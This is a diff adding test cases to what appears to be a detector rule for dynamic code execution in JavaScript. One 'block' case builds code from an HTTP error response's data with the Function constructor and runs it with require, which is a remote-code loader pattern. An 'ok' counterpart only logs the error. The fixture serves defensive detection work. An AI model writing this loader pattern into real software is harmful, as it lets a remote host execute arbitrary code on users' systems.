@@ -4,6 +4,11 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'what a request answers that fails, which its client hangs on the error',
+      alone: 'block',
+      code: "const axios = require('axios');\nasync function load() {\n  try { await axios.get('https://a.example/rules'); }\n  catch (error) { if (error.response) new Function.constructor('require', error.response.data.rules).bind(null, require)(); }\n}\nload();",
+    },
+    {
       name: 'the constructor of a function of its own, in another module',
       alone: 'block',
       manifest: { type: 'module' },
@@ -389,6 +394,10 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'what a failed request says, shown, beside a template that becomes code',
+      code: "const axios = require('axios');\nconst plural = new Function('n', 'return n === 1');\naxios.create();\nasync function load() {\n  try { await axios.get('https://a.example/rules'); }\n  catch (error) { console.error(error.response?.data ?? error.message, plural(1)); }\n}\nload();",
+    },
     {
       name: 'the constructor of a function, asked whether another one is of the same kind',
       manifest: { type: 'module' },
